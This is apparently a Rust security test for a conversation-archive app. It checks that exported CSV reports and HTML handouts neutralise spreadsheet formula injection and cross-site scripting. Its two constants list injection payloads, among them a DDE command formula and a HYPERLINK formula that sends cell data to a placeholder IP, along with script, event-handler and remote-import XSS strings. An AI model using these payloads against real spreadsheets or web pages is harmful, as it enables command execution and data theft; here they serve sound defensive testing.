//! Files that leave the register, filled with what a spreadsheet would calculate and a browser would run.

// Rounds and gaps.
mod figures;

use super::ground::{EVERYTHING, talk_of};
use super::{Row, tell};
use crate::support::{Register, TYPED, act, act_as, text};
use seula::domain::audit::AuditFilter;
use seula::domain::{AccountRole, ConversationId};
use seula::engine::ops::{audit, collection, import};
use seula::engine::{Engine, Reply};
use seula::text::Locale;
use std::path::Path;

/// Cells that are formulas to one spreadsheet or another (OWASP, "CSV Injection"), also where something stands before.
const FORMULAS: [&str; 22] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1;\"luvat\")",
    "=cmd|' /C calc'!A0",
    "@x\";=1+1",
    "'=1+1\n=2+2",
    "-2+3;=cmd|' /C calc'!A0",
    "Aino,=1+1",
    "Aino\t=1+1",
];

/// Texts that are markup or orders to a browser.
const SCRIPTS: [&str; 16] = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<a href=\"javascript:alert(1)\">luvat</a>",
    "<!--<script>--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<meta http-equiv=refresh content=\"0;url=http://192.0.2.1\">",
    "<style>@import 'http://192.0.2.1'</style>",
    "\u{202e}>tpircs/<)1(trela>tpircs<",
    "⟦phone⟧<script>alert(1)</script>⟦<b>⟧",
];

/// Signs that no spreadsheet looks past before a formula, and those that begin one.
fn is_formula(cell: &str) -> bool {
    let begins = |letter: char| letter.is_whitespace() || matches!(letter, '\u{feff}' | '\u{200b}');
    cell.starts_with(['\t', '\r', '\n'])
        || cell.trim_start_matches(begins).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// The cells of a table, read by the separator that it is written with and by others that a system may take for it.
fn cells(table: &str) -> Vec<String> {
    let table = table.trim_start_matches('\u{feff}');
    let read = |comma: u8| {
        let mut rows = csv::ReaderBuilder::new()
            .delimiter(comma)
            .has_headers(false)
            .flexible(true)
            .from_reader(table.as_bytes());
        let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        rows.iter().flat_map(|row| row.iter().map(str::to_owned)).collect::<Vec<_>>()
    };
    [b';', b',', b'\t'].into_iter().flat_map(read).collect()
}

#[test]
fn no_cell_of_a_table_that_leaves_is_a_formula() {
    let mut row = Row::begin("cells");
    let register = Register::new("cells_formulas");
    // People of these names, as another program would have written them, and an act of each.
    let plain = rusqlite::Connection::open(register.path()).unwrap();
    for (n, name) in FORMULAS.iter().enumerate() {
        let account = "INSERT INTO account (username, display_name, roles, state, password, code, code_ends_ms, epoch, \
                       created_ms) VALUES (?1, ?2, 1, 0, '', '', 0, 0, 0)";
        plain.execute(account, (format!("tunnus{n}"), name)).unwrap();
    }
    drop(plain);
    register.forge_log(
        "INSERT INTO audit (at_ms, account, act, previous, hash) SELECT 1, id, 'signed_in', x'', x'' FROM account",
    );
    let mut tables = Vec::new();
    for locale in Locale::ALL {
        let path = register.folder.join(format!("loki-{}.csv", locale.code()));
        let export = audit::Command::Export { filter: AuditFilter::default(), path: path.clone(), locale };
        act(register.engine(), export).unwrap();
        tables.push((path, true));
    }
    let broken =
        "{\"id\": \"=1+1\", \"messages\": [\n".repeat(3) + "{\"messages\": \"=cmd|' /C calc'!A0\"}\n";
    let good = talk_of("g", "2026-11-20", &[("user", "=1+1".to_owned()), ("bot", "Hei".to_owned())]);
    let imported = register.import(&(good + &broken)).unwrap();
    let path = register.folder.join("raportti.csv");
    let import = imported.import.unwrap();
    register
        .engine()
        .call(import::Command::WriteReport { import, path: path.clone(), locale: Locale::Fi })
        .unwrap();
    tables.push((path, false));
    let (account, engine) = register.person(EVERYTHING, &AccountRole::ALL);
    figures::review(&register, &account, &engine);
    tables.extend(figures::tables(&register, &engine));
    for (path, hostile) in tables {
        let table = std::fs::read_to_string(&path).unwrap();
        let cells = cells(&table);
        let formulas: Vec<&String> = cells.iter().filter(|cell| is_formula(cell)).collect();
        tell(&format!("{}: {} cells, {} formulas", path.display(), cells.len(), formulas.len()));
        assert!(formulas.is_empty(), "{}: {formulas:?}", path.display());
        assert!(!hostile || table.contains("1+1"), "{}: the hostile words are in it", path.display());
    }
    row.counted.hardships = (FORMULAS.len() + SCRIPTS.len()) as u64;
    for page in figures::pages(&register, &engine) {
        assert!(page.contains("alert(1)"), "the hostile name is in it");
        check(&page);
    }
    handout(&register, &engine);
}

/// The tags of a page, each with its attributes.
fn tags(page: &str) -> Vec<&str> {
    page.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()).collect()
}

/// A page with every script in every text of it.
fn handout(register: &Register, engine: &Engine) {
    let lines: String = SCRIPTS
        .iter()
        .enumerate()
        .map(|(n, script)| {
            let text = serde_json::to_string(script).unwrap();
            let text = text.trim_matches('"').to_owned();
            let roles = ["user", "assistant", "agent", "system"];
            talk_of(&format!("s{n}"), "2026-11-20", &roles.map(|role| (role, text.clone())))
        })
        .collect();
    register.import(&lines).unwrap();
    let create = collection::Command::Create { name: text(SCRIPTS[1]), aim: text(SCRIPTS[2]) };
    let Ok(Reply::Collection(collection::Reply::Changed(collection))) = engine.call(create) else {
        panic!("no collection")
    };
    let chats = register.numbers("SELECT id FROM conv WHERE import = (SELECT max(id) FROM import)");
    assert_eq!(chats.len(), SCRIPTS.len());
    for (id, script) in chats.into_iter().zip(SCRIPTS) {
        let (conversation, lesson) = (ConversationId(id), text(script));
        engine
            .call(collection::Command::AddExample { collection, conversation, passage: Vec::new(), lesson })
            .unwrap();
    }
    for locale in Locale::ALL {
        let path = register.folder.join(format!("moniste-{}.html", locale.code()));
        export(engine, collection, &path, locale);
        let page = std::fs::read_to_string(&path).unwrap();
        assert!(page.matches("alert(1)").count() > 4 * SCRIPTS.len(), "the hostile texts are in it");
        check(&page);
    }
}

fn export(engine: &Engine, collection: seula::domain::CollectionId, path: &Path, locale: Locale) {
    let (path, purpose) = (path.to_owned(), text(SCRIPTS[0]));
    act_as(engine, TYPED, collection::Command::Export { collection, purpose, path, locale }).unwrap();
}

/// Every tag is one of the program's own, with the attributes that it gives it, and none fetches or runs anything.
fn check(page: &str) {
    const NAMES: [&str; 25] = [
        "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "p", "h1", "h2", "h3", "section",
        "div", "span", "footer", "dl", "dt", "dd", "br", "table", "thead", "tbody", "tr", "th", "td",
    ];
    const ATTRIBUTES: [&str; 8] =
        ["lang", "charset", "http-equiv", "content", "class", "dir", "html", "scope"];
    for tag in tags(page) {
        let mut words = tag.trim_start_matches('/').split(' ');
        let name = words.next().unwrap();
        assert!(NAMES.contains(&name), "<{tag}>");
        let quoted = tag.split('"').skip(1).step_by(2);
        assert!(!quoted.clone().any(|value| value.contains("alert")), "<{tag}>");
        let outside: String = tag.split('"').step_by(2).collect::<Vec<_>>().join("");
        for attribute in outside.split(' ').skip(1).filter(|word| !word.is_empty()) {
            assert!(ATTRIBUTES.contains(&attribute.trim_end_matches('=')), "<{tag}>");
        }
    }
    assert_eq!(page.matches("<style>").count(), 1);
    assert!(page.contains("default-src 'none'") && !page.contains("http://192.0.2.1\">"));
    assert!(!page.contains('\u{202e}'), "what turns letters around is shown, not obeyed");
}
